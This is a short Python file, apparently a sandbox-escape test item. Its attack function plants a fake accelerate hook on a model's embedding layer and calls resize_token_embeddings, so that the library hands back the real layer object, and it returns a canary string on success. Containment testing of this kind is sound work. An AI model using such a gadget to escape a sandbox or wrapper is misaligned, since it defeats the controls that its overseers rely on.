"""Class: module gadget. Source: accelerate's hooks lie under a private name of the layers that they are on. Escape: a function of
the library is put on a real layer: an object of one's own stands where accelerate looks for its hook, and is asked to
give the layer back.
"""

kept = []


class Hook:
    no_grad = False

    def init_hook(self, module):
        kept.append(module)
        return module

    def detach_hook(self, module):
        return module

    def pre_forward(self, module, *args, **kwargs):
        return args, kwargs

    def post_forward(self, module, output):
        return output


def attack(model, tokenizer, scene):
    layer = model.get_input_embeddings()
    layer._hf_hook = Hook()
    model.resize_token_embeddings(model.config.vocab_size + 1)
    return "canary-" + "5d1f" if kept else None
